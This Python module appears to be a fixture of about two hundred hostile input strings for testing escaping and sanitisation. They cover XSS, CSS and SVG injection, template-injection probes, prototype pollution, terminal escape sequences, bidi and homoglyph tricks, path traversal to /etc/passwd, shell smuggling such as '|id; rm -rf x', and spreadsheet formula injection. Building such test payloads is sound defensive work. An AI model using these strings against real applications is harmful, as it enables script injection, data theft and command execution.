"""Two hundred texts that would do something if a page, a terminal, a spreadsheet or a renderer took them for more than text.

Whatever runs sets ``window.__pwned`` or asks ``NOWHERE`` for something; both are looked for. Arithmetic in them comes to 1337.
"""

from __future__ import annotations

NOWHERE = "http://127.0.0.1:9/x"
RUN = "window.__pwned=1"

KINDS: dict[str, tuple[str, ...]] = {
    "scripts": (
        f"<script>{RUN}</script>", f"<SCRIPT>{RUN}</SCRIPT>", f"<ScRiPt type=module>{RUN}</sCrIpT >", f"<script/x>{RUN}</script/y>",
        f"<script\n>{RUN}</script\t>", f"<script src={NOWHERE}></script>", f'<script src="data:text/javascript,{RUN}"></script>',
        f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<<script>{RUN}//<</script>", f"<script>{RUN}",
        f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
        f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-", f"%3Cscript%3E{RUN}%3C/script%3E", f"&lt;script&gt;{RUN}&lt;/script&gt;",
        f"&#60;script&#62;{RUN}&#x3c;/script&#x3e;", f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
        f"<script async nonce=x>{RUN}</script>",
        f"<noscript><p title='</noscript><script>{RUN}</script>'>",
    ),
    "handlers": (
        f"<img src=x onerror={RUN}>", f"<IMG SRC=x OnErRoR={RUN}>", f'<img src="x`onerror={RUN}`">', f"<img/src=x/onerror={RUN}//",
        f"<body onload={RUN}>", f"<input autofocus onfocus={RUN}>", f"<video><source onerror={RUN}></video>",
        f"<audio src=x onerror={RUN}>",
        f"<details open ontoggle={RUN}>x</details>", f"<marquee onstart={RUN}>x</marquee>", f"<select onfocus={RUN} autofocus>",
        f"<p onpointerover={RUN} style=position:fixed;inset:0>x</p>", f"<x onfocusin={RUN} tabindex=1 autofocus>",
        f"<button popovertarget=p>b</button><div popover id=p onbeforetoggle={RUN}>", f"<style onload={RUN}></style>",
        f"<x style=animation-name:a onanimationstart={RUN}>",
    ),
    "SVG and MathML": (
        f"<svg onload={RUN}>", f"<svg><script>{RUN}</script></svg>", f"<svg><script xlink:href=data:,{RUN} /></svg>",
        f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><a xlink:href=javascript:{RUN}><text y=9>x</text></a></svg>",
        f"<svg><use href='{NOWHERE}#x'/></svg>", f"<svg><image href={NOWHERE} /></svg>",
        f"<svg><foreignObject><iframe src=javascript:{RUN}></iframe></foreignObject></svg>", f"</desc></title></svg><script>{RUN}</script>",
        f"<svg><set attributeName=href to=javascript:{RUN} begin=0s></svg>",
        f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
        f"<math href=javascript:{RUN}>x</math>", f"<math><annotation-xml encoding=text/html><script>{RUN}</script></annotation-xml></math>",
        "<svg width=9999 height=9999 style=position:fixed><rect width=9999 height=9999 /></svg>",
    ),
    "styles": (
        f"<style>@import '{NOWHERE}';</style>", "<style>*{display:none!important}</style>", f"</style><script>{RUN}</script>",
        f"<link rel=stylesheet href={NOWHERE}>", f"<div style='background:url({NOWHERE})'>x</div>",
        f"<div style=width:expression({RUN})>x</div>",
        "} body { display: none } .x {", "*/ body { display: none } /*", "\\3c/style\\3e @media all { * { color: red } }",
        f"url(javascript:{RUN})", "content: attr(data-label); position: fixed", "-moz-binding: url(x.xml#y)",
        "<p style='position:fixed;inset:0;z-index:99999;background:red'>cover</p>",
        f"<style>@font-face{{font-family:x;src:url({NOWHERE})}}</style>",
    ),
    "frames and redirections": (
        f"<iframe src={NOWHERE}></iframe>", f'<iframe srcdoc="<script>parent.{RUN[7:]}</script>"></iframe>',
        f"<object data={NOWHERE}></object>",
        f"<embed src={NOWHERE}>", f'<meta http-equiv=refresh content="0;url={NOWHERE}">',
        '<meta http-equiv="Content-Security-Policy" content="">',
        f"<base href={NOWHERE}/>", f"<form action={NOWHERE}><input name=q><button>send</button></form>", f"<isindex action={NOWHERE}>",
        f"<portal src={NOWHERE}></portal>", f"<link rel=prefetch href={NOWHERE}>", f"<frameset><frame src={NOWHERE}></frameset>",
        f"<a ping={NOWHERE} href=#verdict>x</a>", f"<template shadowrootmode=open><script>{RUN}</script></template>",
        "<plaintext>", "<xmp><textarea><title>", "<dialog open>cover</dialog>", f"<img srcset='{NOWHERE} 2x'>",
    ),
    "attributes": (
        f'" onmouseover="{RUN}" x="', f"' onmouseover='{RUN}' x='", f'"><script>{RUN}</script>', f"'><img src=x onerror={RUN}>",
        f'" autofocus onfocus="{RUN}" tabindex="1', '" style="position:fixed;inset:0;background:red" x="', "` onload=`x`",
        '" id="verdict" class="badge',
        f"x onclick={RUN}", '" aria-hidden="true" hidden x="', "\" data-live=\"x", "/>", "-->", "\"'><", "&quot;&apos;&#34;&#39;&gt;",
        "&amp;&NotAnEntity;&#0;",
    ),
    "addresses": (
        f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"\x01javascript:{RUN}", f"data:text/html,<script>{RUN}</script>",
        "data:text/html;base64,PHNjcmlwdD4=", f"vbscript:{RUN}", f"<a href=javascript:{RUN}>click</a>", f"//{NOWHERE[7:]}", NOWHERE,
        "blob:null/x", "file:///etc/passwd", "#t=elsewhere&p=0.0&c=0.0&m=1", "?q=<b>#verdict", "www.example.com someone@example.com",
    ),
    "templates": (
        "{{ 7 * 191 }}", "{% for x in range(9) %}boo{% endfor %}", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{# comment #}",
        "{{{7*191}}}", "${7*191}", "`${7*191}`", "#{7*191}", "<%= 7*191 %>", "<?php echo 7*191; ?>", "[[7*191]]", "{%raw%}x{%endraw%}",
        "%(target)s {0} {name!r:>9}", "$(id) `id`", "{{constructor.constructor('" + RUN + "')()}}", "<div v-html=x ng-app>{{7*191}}</div>",
    ),
    "script data": (
        f"</script><script>{RUN}</script>", "</SCRIPT >", f"<!--<script>{RUN}", "<!-- --!> x", "]]>", f"<![CDATA[<script>{RUN}</script>]]>",
        f"'; {RUN}; //", f'"}}; {RUN}; //', f"\u2028{RUN}\u2029", "\\x3c/script\\x3e \\n \\", '{"__proto__": {"polluted": true}}',
        "__proto__",
        "constructor", "toString", "null", "NaN -Infinity 1e999",
    ),
    "direction and look": (
        "\u202egnp.exe\u202c", "\u2066isolated\u2069 \u2067x", "\u200f\u061c\u200e marks", "\u202a\u202b\u202d left open",
        "\u05d0\u05d1\u05d2 " * 40,
        "\u0645\u0631\u062d\u0628\u0627 \u202d(42)\u202c", "p\u0430ypal.com \u0435\u0445\u0430mple",
        "\u2100\u2101 \uff41\uff42 \U0001d538\U0001d539",
        "zero\u200bwidth\u200c\u200d\u2060\ufeffjoined", "\u3164\u115f\u1160\uffa0\u2800 blank", "soft\u00adhyphen\u034fjoiner",
        "e" + "\u0301" * 300,
        "Z\u0310\u030d\u0311\u0304\u0357\u0348\u0329a\u030a\u0348\u0329\u0332", "\u20dd\u20de\u20df\u20e0" * 20,
        "x\ufe0f\ufe01\U000e0100\U000e0158 selectors",
        "\U000e0041\U000e0042 tags", "\U0001f469\u200d\U0001f469\u200d\U0001f467 family", "\ufdfa\ufdfd\U0001242b\ua9c5" * 20,
    ),
    "controls": (
        "\x1b[2J\x1b[31;1mANSI\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;http://127.0.0.1:9\x1b\\link\x1b]8;;\x1b\\", "\x1b]52;c;cHduZWQ=\x07",
        "\x9b31m \x9d0;t\x9c", "\x1bP+q544e\x1b\\ \x1b^x\x1b\\", "\x1b[6n\x1b[5i\x1b[?1049h", "\x00nul\x00",
        "\x01\x02\x03\x04\x05\x06\x0e\x0f\x10\x11",
        "back\x08\x08\x08\x08space", "over\rwrite", "\x0b\x0c\x1c\x1d\x1e\x1f\x7f\x85", "\ud800 alone \udfff", "\ud83d cut pair",
        "\ufffe\uffff\ufdd0\U0001ffff",
        "\ue000\U000f0000 private", "[bold red]rich[/] [link=http://127.0.0.1:9]x[/link] [/nothing]",
    ),
    "names": (
        "../../../etc/passwd", "..\\..\\windows\\system32", "C:\\con\\nul.txt", "\\\\host\\share", "%00.html %2e%2e%2f", "-rf --help",
        "~/.ssh/id", "a/b&c=d#e?f+g;h",
        ".", "con", "|id; rm -rf x", "name\nwith\n\nlines\ttabs",
    ),
    "spreadsheets and Markdown": (
        "=cmd|' /C calc'!A0", "+1+cmd|x", "-2+3+cmd|x", "@SUM(1+9)*cmd|x", "\t=1+1", "\r=1+1", "\n=1+1", "\uff1d1+1",
        '=HYPERLINK("http://127.0.0.1:9","x")',
        "[click](javascript:alert(1))", f"![x]({NOWHERE}.png)", "# Title\n\n- item", "| a | b |\n|---|---|", "```\nfence\n~~~ `x` ``y``",
        "@everyone fixes #1, owner/name#2, GH-3", "[ref]: http://127.0.0.1:9\n[ref]", "***b*** __u__ ~~s~~ $x^2$ :tada: > q",
        "<details><summary>x</summary>\n\n**y**",
        "<http://127.0.0.1:9> <me@example.com> <!-- hidden -->", "1. one\n2) two\n---\n===", "deadbeefdeadbeef PROJ-4", "\\[escaped\\]",
        "***",
    ),
    "room": ("W" * 4000, "\U0001d518\U0001d52b" * 600, "no break " * 400, "line\n" * 500, "a\t" * 500, "\u6f22" * 2000, "(" * 900),
}  # fmt: skip
HOSTILE = tuple(text for texts in KINDS.values() for text in texts)
MEGABYTE = ("A" * 1_000_000, "<b>x</b> " * 111_112, "e" + "\u0301" * 999_999 + "\u202e" * 9)
"""Lines and a tower of a million characters."""
